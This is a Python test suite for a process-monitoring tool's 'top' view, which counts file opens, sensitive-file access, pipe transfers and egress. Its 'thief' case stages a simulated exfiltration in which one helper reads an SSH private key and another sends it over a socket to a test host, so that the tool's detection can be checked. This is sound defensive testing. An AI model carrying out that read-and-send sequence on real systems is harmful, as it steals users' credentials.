#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""barbwirectl top, and the call WatchProcesses behind it: what processes do is counted exactly while a client looks,
and not at all otherwise, however the client ends; on a terminal it obeys keys, and gives the terminal back."""

import contextlib
import fcntl
import json
import os
import pty
import re
import select
import signal
import struct
import subprocess
import sys
import termios
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))

import tap
import varlink
from cases import Scene, cases
from ctl import CTL, Ctl, environment
from net import HOST_V4
from tap import require, require_equal

OPENS, CROWD, INTERVAL_USEC = 500, 1000, 100_000
PATIENCE = 90 * tap.SLOW
CLASS = "ssh-private-keys"

# Does what a line of its input says, and answers with a line.
HAND = """
import os, socket, sys
kept = {}
for line in sys.stdin:
    what, *rest = line.split()
    if what == "open":
        for i in range(int(rest[1])):
            os.close(os.open(rest[0], os.O_RDONLY))
    elif what == "load":
        fd = os.open(rest[0], os.O_RDONLY); kept["data"] = os.read(fd, 65536); os.close(fd)
    elif what == "give":
        os.write(int(rest[0]), kept["data"])
    elif what == "take":
        kept["data"] = os.read(int(rest[0]), 65536)
    elif what == "send":
        kept["socket"] = socket.create_connection((rest[0], int(rest[1])))
        kept["socket"].sendall(kept["data"])
    elif what == "crowd":
        for i in range(int(rest[1])):
            pid = os.fork()
            if pid == 0:
                os.open(rest[0], os.O_RDONLY)
                os._exit(0)
            os.waitpid(pid, 0)
    print("done", flush=True)
"""


class Hand:
    """with Hand(scene) as h: h.do("open", "/dev/null", 5)"""

    def __init__(self, scene, *fds):
        self.process = scene.net.popen([sys.executable, "-c", HAND], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                       text=True, pass_fds=fds)
        self.pid = self.process.pid
        self.do("wait")

    def begin(self, *words):
        self.process.stdin.write(" ".join(map(str, words)) + "\n")
        self.process.stdin.flush()

    def do(self, *words):
        self.begin(*words)
        self.end(*words)

    def end(self, *words):
        require_equal(self.process.stdout.readline(), "done\n", f"the answer to {words}")

    def __enter__(self):
        return self

    def __exit__(self, *exception):
        self.process.kill()
        self.process.communicate()


class View:
    """A call of WatchProcesses, and the sum of its samples by process."""

    def __init__(self, scene, interval=INTERVAL_USEC):
        self.connection = varlink.Connection(scene.socket)
        self.connection.send("WatchProcesses", more=True, interval=interval)
        self.processes, self.opened, self.table = {}, {}, None
        self.sample()

    def sample(self):
        last = False
        while not last:
            reply, continues = self.connection.receive()
            require(continues, "the call has ended")
            for p in reply["processes"]:
                if p["classes"] is None:
                    self.processes[p["pid"]] = p
                else:
                    self.opened[p["pid"], tuple(p["classes"])] = p["opens"]
            last = reply["last"]
        self.table = reply["table"]

    def wait(self, look, what):
        end = time.monotonic() + PATIENCE
        while not look(self):
            require(time.monotonic() < end, f"{what}: {self.processes} {self.opened}")
            self.sample()

    def opens(self, pid):
        return self.processes[pid]["opens"] if pid in self.processes else 0

    def __enter__(self):
        return self

    def __exit__(self, *exception):
        self.connection.socket.close()


def status(scene):
    with varlink.Connection(scene.socket) as c:
        answer = c.call("GetStatus")
    return next(t for t in answer["tables"] if t["name"] == "activity"), answer["clients"]


def wait_clients(scene, n):
    """Until the daemon has so many clients, with this one: it reads the end of a connection when its turn comes."""
    end = time.monotonic() + PATIENCE
    while status(scene)[1] != n:
        require(time.monotonic() < end, "a client has not gone")


def require_uncounted(scene):
    wait_clients(scene, 1)
    before = status(scene)[0]
    with Hand(scene) as h:
        h.do("open", "/dev/null", 10)
        h.do("crowd", "/dev/null", 3)
    require_equal(status(scene)[0], before, "the table of activity, while nobody looks")


def unseen(scene):
    """Before anybody has looked."""
    require_uncounted(scene)
    require_equal(status(scene)[0]["live"], 0, "processes that were counted")


def counted(scene):
    """Two views at once, of which the second began later: exactly what was opened, and by whom."""
    with Hand(scene) as h, View(scene) as first:
        before = first.opens(h.pid)
        h.do("open", "/dev/null", OPENS)
        with View(scene) as second:
            first.wait(lambda v: v.opens(h.pid) - before >= OPENS, "the opens")
            require_equal(first.opens(h.pid) - before, OPENS, "opens")
            h.do("open", "/dev/null", 1)
            second.wait(lambda v: v.opens(h.pid) - before > OPENS, "one more")
        wait_clients(scene, 2)
        h.do("open", "/dev/null", 1) # the first one still looks
        first.wait(lambda v: v.opens(h.pid) - before == OPENS + 2, "the last one")
        p = first.processes[h.pid]
        require_equal((p["comm"], p["uid"], p["given"], p["taken"], p["egress"]), ("python3", 0, 0, 0, 0), "the rest")
        require_equal([k for k in first.opened if k[0] == h.pid], [], "sensitive files")
    require_uncounted(scene)


def thief(scene):
    """One opens a key and writes it to a pipe, the other reads it and sends it away."""
    key = os.fsdecode(scene.home.key()[0])
    near, far = os.pipe()
    with Hand(scene, far) as giver, Hand(scene, near) as taker, Hand(scene) as other, View(scene) as v:
        other.do("open", "/dev/null", 7)
        giver.do("load", key)
        giver.do("load", key)
        giver.do("give", far)
        taker.do("take", near)
        taker.do("send", HOST_V4, 443)
        v.wait(lambda v: taker.pid in v.processes and v.processes[taker.pid]["egress"] >= 2, "egress")
        rows = {name: [v.processes[h.pid][k] for k in ("given", "taken", "egress")]
                for name, h in (("giver", giver), ("taker", taker), ("other", other))}
        require_equal(rows, {"giver": [1, 0, 0], "taker": [0, 1, 2], "other": [0, 0, 0]}, "given, taken, egress")
        require_equal({k: n for k, n in v.opened.items() if k[0] in (giver.pid, taker.pid, other.pid)},
                      {(giver.pid, (CLASS,)): 2}, "sensitive opens")
        # The client says the same, with what they hold; what was before it began it does not show.
        top = subprocess.Popen(Ctl(scene.socket).command("top", "--json=short", "--delay=0.2", "--sort=given"),
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        try:
            shown = rows_of(json.loads(top.stdout.readline()))
            require_equal([(shown[h.pid]["marks"], shown[h.pid]["sensitive"], shown[h.pid]["egress"])
                           for h in (giver, taker)], [([CLASS], 0, 0)] * 2, "what they hold")
            require(other.pid not in shown, "a process that has done nothing is shown")
            giver.do("load", key)
            other.do("open", "/dev/null", 40)
            end = time.monotonic() + PATIENCE
            rates = []
            while giver.pid not in shown or shown[giver.pid]["sensitive"] == 0 or other.pid not in shown:
                require(time.monotonic() < end, f"not shown: {shown}")
                shown = rows_of(json.loads(top.stdout.readline()))
                rates.append(shown.get(other.pid, {}).get("opens_per_second", 0))
            require_equal((shown[giver.pid]["classes"], shown[giver.pid]["opens"]), ({CLASS: 1}, 1), "the giver")
            require_equal(shown[other.pid]["opens"], 40, "the other's opens")
            require(max(rates) > 40, f"opens a second: {rates}")
        finally:
            top.kill() # without a word to the daemon
            top.communicate()
    os.close(near)
    os.close(far)
    require_uncounted(scene)


def rows_of(sample):
    return {p["pid"]: p for p in sample["processes"]}


def crowd(scene):
    """More processes than a set or a reply has room for, each of which opens one file: each is counted."""
    with Hand(scene) as h, View(scene) as v:
        before = set(v.processes)
        h.begin("crowd", "/dev/zero", CROWD) # a client that does not read meanwhile would be disconnected
        v.wait(lambda v: len(set(v.processes) - before) >= CROWD, "the crowd")
        h.end("crowd")
        require_equal((v.table["dropped"], v.table["refused"]), (0, 0), "dropped, refused")
        require(v.table["max"] >= v.table["live"] >= CROWD, f"{v.table}")


def once(scene):
    """A sample as text, and the command line."""
    with Hand(scene) as h, Hand(scene) as other:
        top = subprocess.Popen(Ctl(scene.socket).command("top", "--once", "--delay=0.5", "-n", "2"),
                               stdout=subprocess.PIPE, text=True)
        while top.poll() is None:
            h.do("open", "/dev/null", 2000)
            other.do("open", "/dev/null", 1)
        out = top.communicate(timeout=PATIENCE)[0]
    require_equal(top.returncode, 0, out)
    lines = out.splitlines()
    require(re.fullmatch(r".*: \d+ processes, \d+ marked, [\d.]+ opens/s; by OPENS/S", lines[0]), out)
    require_equal(lines[2].split(), "PROCESS UID OPENS/S SENSITIVE GIVEN TAKEN EGRESS OPENED MARKS".split(), out)
    row = next(line for line in lines if line.startswith(f"python3[{h.pid}] "))
    require(float(row.split()[2]) > 0, row)
    require_equal(len(lines), 6, out) # two rows and an empty line
    for words in (["--sort=size"], ["--delay=0"], ["--delay=x"], ["-n", "0"], ["--once", "--json=ocsf"]):
        Ctl(scene.socket).expect(2, "top", *words)


class Screen:
    """top on a terminal of its own."""

    def __init__(self, scene, columns=100, lines=24):
        self.pid, self.fd = pty.fork()
        if self.pid == 0:
            os.execve(CTL, Ctl(scene.socket).command("top", "--delay=0.2"), environment())
        self.said = b""
        self.resize(columns, lines)
        self.before = None

    def resize(self, columns, lines):
        fcntl.ioctl(self.fd, termios.TIOCSWINSZ, struct.pack("HHHH", lines, columns, 0, 0))

    def read(self):
        ready, _, _ = select.select([self.fd], [], [], PATIENCE)
        require(ready, f"nothing more was said: {self.said[-2000:]}")
        with contextlib.suppress(OSError):
            self.said += os.read(self.fd, 65536)

    def wait(self, pattern):
        """Until a complete screen matches; returns it."""
        end = time.monotonic() + PATIENCE
        while True:
            for screen in self.said.split(b"\x1b[H\x1b[J")[1:-1]:
                text = re.sub(rb"\x1b\[[0-9;?]*[a-zA-Z]", b"", screen).decode()
                if re.search(pattern, text):
                    self.said = b"\x1b[H\x1b[J"
                    return text
            require(time.monotonic() < end, f"{pattern} is not shown: {self.said[-2000:]}")
            self.read()

    def press(self, keys):
        os.write(self.fd, keys)

    def end(self):
        """Its exit status, and whether the terminal is as it was."""
        _, wait_status = os.waitpid(self.pid, 0)
        self.pid = None
        modes = termios.tcgetattr(self.fd)
        with contextlib.suppress(OSError):
            while select.select([self.fd], [], [], 0)[0]:
                piece = os.read(self.fd, 65536)
                if not piece:
                    break
                self.said += piece
        return os.waitstatus_to_exitcode(wait_status), is_cooked(modes) and b"\x1b[?25h" in self.said

    def __enter__(self):
        return self

    def __exit__(self, *exception):
        if self.pid:
            os.kill(self.pid, signal.SIGKILL)
            os.waitpid(self.pid, 0)
        os.close(self.fd)


def is_cooked(modes):
    return bool(modes[3] & termios.ICANON and modes[3] & termios.ECHO)


def keys(scene):
    with Hand(scene) as h, Screen(scene) as s:
        s.wait(r"by OPENS/S\s")
        require(not is_cooked(termios.tcgetattr(s.fd)), "keys would be echoed")
        h.do("open", "/dev/null", 1)
        s.wait(rf"python3\[{h.pid}\]")
        for key, shown in ((b"s", "SENSITIVE"), (b">", "GIVEN"), (b"\x1b[C", "TAKEN"), (b"<", "GIVEN"),
                           (b"\x1b[D", "SENSITIVE"), (b"r", "SENSITIVE, reversed"), (b"z", "SENSITIVE, reversed"),
                           (b"rp", "PROCESS"), (b"<", "MARKS"), (b">", "PROCESS")):
            s.press(key)
            s.wait(rf"by {shown}\s")
        s.resize(45, 10)
        text = s.wait(r"PROCESS +UID")
        while max(map(len, text.splitlines()[2:])) > 60 or len(text.splitlines()) > 10:
            text = s.wait(r"PROCESS +UID")
        s.press(b"q")
        require_equal(s.end(), (0, True), "status, and whether the terminal is as before")
    require_uncounted(scene)


def interrupted(scene):
    """Ctrl-C, Ctrl-Z and a signal; while it is stopped nothing is counted."""
    with Screen(scene) as s:
        s.wait(r"by OPENS/S\s")
        s.press(b"\x1a")
        _, wait_status = os.waitpid(s.pid, os.WUNTRACED)
        require(os.WIFSTOPPED(wait_status), f"{wait_status}")
        require(is_cooked(termios.tcgetattr(s.fd)), "the terminal of a stopped process")
        require_uncounted(scene)
        os.kill(s.pid, signal.SIGCONT)
        s.said = b"\x1b[H\x1b[J"
        s.wait(r"by OPENS/S\s")
        s.press(b"\x03")
        require_equal(s.end(), (-signal.SIGINT, True), "Ctrl-C")
    with Screen(scene) as s:
        s.wait(r"by OPENS/S\s")
        os.kill(s.pid, signal.SIGTERM)
        require_equal(s.end(), (-signal.SIGTERM, True), "SIGTERM")
    require_uncounted(scene)


def main():
    with cases() as (t, net, home):
        scene = Scene(net, home)
        with scene.bw:
            t.case("nobody looks: nothing is counted", unseen, scene)
            t.case("opens are counted exactly, while any client looks", counted, scene)
            t.case("a theft: class, hops, egress, marks; and the client is killed", thief, scene)
            t.case("a crowd is counted one by one", crowd, scene)
            t.case("one sample, and the command line", once, scene)
            t.case("keys and the size of the terminal", keys, scene)
            t.case("Ctrl-Z, Ctrl-C and SIGTERM give the terminal back", interrupted, scene)
            scene.bw.stop()
        t.case("no losses", scene.bw.require_no_loss)


if __name__ == "__main__":
    main()
